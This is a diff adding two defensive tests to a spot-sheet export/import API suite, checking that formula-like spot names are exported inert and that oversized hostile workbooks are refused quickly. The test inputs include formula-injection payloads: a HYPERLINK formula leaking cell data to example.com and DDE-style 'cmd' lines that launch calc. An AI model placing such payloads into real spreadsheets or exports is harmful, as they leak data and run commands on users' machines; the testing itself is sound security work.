@@ -6,6 +6,7 @@ import JSZip from 'jszip';
 import { v1 as uuidV1 } from 'uuid';
 import { describe, expect, it } from 'vitest';
 import { call, createField, internal, newUser, square, type TestUser } from './helpers/api';
+import * as hostile from './helpers/hostile-files';
 
 const FIELD = square(-60.5, -33.9, 0.02);
 const POINT = 'POINT(-60.499 -33.895)';
@@ -338,6 +339,54 @@ describe('spot sheets', () => {
     // a spot the user cannot see at all is just not a valid record
     const stranger = await newUser();
     expect((await importSheet(stranger, `Service_Spot_ID,pH [pH]\n${spots[0]},6\n`, 'theirs.csv')).body.code).toBe(54);
+  });
+
+  it("exports a collaborator's formula-like spot names inert: an apostrophe first in csv (OWASP), text cells in xlsx", async () => {
+    const { owner, fieldId } = await spotsWithVariables();
+    const collaborator = await newUser();
+    await internal('/internal/shares', { user_id: collaborator.id, field_id: fieldId, permission: 'edit' });
+    const names = ['=HYPERLINK("https://example.com/?d="&A1,"Ver")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|x!A0'];
+    for (const [i, name] of names.entries()) {
+      const created = await call('POST', '/spots/spot', {
+        token: collaborator.token,
+        json: { field_id: fieldId, shape: `POINT(${-60.495 + i * 0.001} -33.896)`, name },
+      });
+      expect(created.status).toBe(200);
+    }
+    const csv = (await download(owner, '/api/spots/sheet', { format: 'csv' })).bytes.toString('utf8');
+    for (const name of names) expect(csv).toContain(`"'${name.replaceAll('"', '""')}"`);
+    expect(csv.split('\n').some((line) => /(^|,)[=+@]/.test(line))).toBe(false);
+    expect(csv).toMatch(/,-60\.49\d*,-33\.89\d*,/); // negative numbers are numbers, not escaped
+
+    const xlsx = (await download(owner, '/api/spots/sheet')).bytes;
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(xlsx as never);
+    const cells = new Map<string, ExcelJS.Cell>();
+    book.worksheets[0]!.eachRow((row) => {
+      cells.set(String(row.getCell(3).value), row.getCell(3));
+    });
+    for (const name of names) {
+      expect(cells.get(name)?.type).toBe(ExcelJS.ValueType.String);
+      expect(cells.get(name)?.formula).toBeUndefined();
+    }
+    const sheetXml = await (await JSZip.loadAsync(xlsx)).file('xl/worksheets/sheet1.xml')!.async('string');
+    expect(sheetXml).not.toMatch(/<f[ >]/);
+  });
+
+  it('refuses hostile workbooks (shared strings, cells, columns) with 52 within 2 s', async () => {
+    const { owner } = await spotsWithVariables();
+    await importSheet(owner, 'Service_Spot_ID,pH [pH]\n', 'warm.csv'); // a cold function is not what is timed
+    for (const file of [
+      hostile.sharedStringsBomb(),
+      hostile.sharedStringRunsBomb(),
+      hostile.cellsBomb(),
+      hostile.wideSheet(),
+    ]) {
+      const started = Date.now();
+      const response = await importSheet(owner, file.content, file.filename);
+      expect([file.label, response.status, response.body.code]).toEqual([file.label, 400, 52]);
+      expect(Date.now() - started).toBeLessThan(2000);
+    }
   });
 
   it('reports a variable that cannot be uploaded as null and uploads the others', async () => {
